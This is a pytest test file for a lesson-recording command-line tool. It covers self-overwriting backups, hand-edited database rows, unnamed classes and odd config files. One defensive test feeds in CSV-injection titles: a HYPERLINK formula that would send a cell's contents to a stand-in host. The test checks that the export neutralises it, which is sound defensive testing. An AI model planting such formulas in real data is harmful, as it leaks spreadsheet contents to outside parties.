"""What somebody could have in a lesson, a record or a name without meaning harm, or meaning it."""

from __future__ import annotations

import os
import sqlite3
import time
from pathlib import Path

import pytest

from caller.cli import main
from caller.record import Tally
from caller.record.files import record_path
from caller.record.store import Store
from tests.record.conftest import a_round


@pytest.fixture(autouse=True)
def own_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("XDG_DATA_HOME", "LOCALAPPDATA"):
        monkeypatch.setenv(name, str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)


def keep(class_name: str, title: str) -> None:
    with Store() as store:
        began_s = time.time() - 1000
        number = store.begin(
            class_name=class_name, title=title, began_s=began_s, planned_s=None, stand_in=False,
            run_sheet="{}", branches="{}",
        )  # fmt: skip
        store.keep(number, a_round(1, "7:45", "8:45", Tally(judgement="few"), began_s + 60))
        store.end(number, began_s + 900, "ended")


def test_the_record_is_never_copied_onto_itself(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    keep("Terns", "Quarters")
    (tmp_path / "link.sqlite3").symlink_to(record_path())
    os.link(record_path(), tmp_path / "same.sqlite3")
    before = record_path().read_bytes()
    for target in (record_path(), tmp_path / "same.sqlite3", tmp_path / "link.sqlite3"):
        assert main(["record", "backup", "--to", str(target), "--replace"]) == 2
    assert "is what is being read" in capsys.readouterr().err
    assert record_path().read_bytes() == before
    assert main(["record", "Terns"]) == 0


def test_a_title_that_a_spreadsheet_would_run_is_text_in_the_table(tmp_path: Path) -> None:
    """OWASP, CSV Injection: cells that begin with =, +, - or @ are formulas (from memory)."""
    for sign in "=+-@":
        keep("Terns", f'{sign}HYPERLINK("http://x/?"&A1,"open")')
    assert main(["record", "Terns", "--to", str(tmp_path / "terns.csv")]) == 0
    table = (tmp_path / "terns.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" in table
    for sign in "=+-@":
        assert f",{sign}HYPER" not in table
        assert f',"{sign}HYPER' not in table


def test_a_class_without_a_name_is_told_of_as_that(capsys: pytest.CaptureFixture[str]) -> None:
    keep("", "Quarters")
    assert main(["record", "Terns"]) == 2
    assert 'no class "Terns". It has: (no class named).' in capsys.readouterr().err


@pytest.mark.parametrize(
    "change", ["began_s = 1e12", "began_s = -1e12", "present = 0", "present = -3", "ended_s = 1e300"]
)
def test_a_record_edited_by_hand_is_read_as_far_as_it_makes_sense(
    change: str, capsys: pytest.CaptureFixture[str]
) -> None:
    keep("Terns", "Quarters")
    keep("Terns", "Halves")
    connection = sqlite3.connect(record_path())
    with connection:
        connection.execute(f"UPDATE lesson SET {change} WHERE title = 'Halves'")
    connection.close()
    assert main(["record", "Terns"]) == 0
    assert capsys.readouterr().out.startswith("The Terns had ")


def test_words_of_nothing_but_marks_are_no_surprise(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "odd.toml").write_text('welcome = "..."\n[[round]]\ntime = "4:30"\n')
    assert main(["check", "odd.toml"]) in (0, 2)
    told = capsys.readouterr()
    assert "not your fault" not in told.err
    assert "odd" in told.out + told.err
